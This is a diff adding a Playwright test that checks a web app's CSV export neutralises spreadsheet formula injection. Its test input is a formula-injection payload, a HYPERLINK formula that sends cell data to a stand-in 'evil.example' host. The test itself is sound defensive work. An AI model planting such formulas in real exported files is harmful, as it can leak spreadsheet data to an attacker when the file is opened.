@@ -43,6 +43,17 @@ test.describe('exports', () => {
     expect(parsed.items.map((item) => [item.id, item.status])).toEqual(items.map((item) => [item[0], item[5]]))
   })
 
+  test('a CSV exported with a formula in the search has no cell a spreadsheet would run', async ({ page }) => {
+    const formula = 'x,=HYPERLINK("https://evil.example/"&A1),+1,-1,@SUM(A1)'
+    await page.goto(`/?view=board&q=${encodeURIComponent(formula)}`)
+    await expect(page.getByRole('searchbox')).toHaveValue(formula)
+    const csv = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as CSV' }))
+    const { citation, rows } = parseCsv(csv.body.toString('utf8'))
+    expect(citation.get('Filters')).toContain(formula)
+    const cells = [...rows.flat(), ...[...citation.values()]]
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
+  })
+
   test('a chart downloads as PNG and SVG stamped with its title, date, filters and sources', async ({ page }) => {
     await page.goto('/?view=charts&topic=gas,oil&asOf=2019-12-10')
     const chart = page.getByRole('region', { name: 'Status breakdown' })
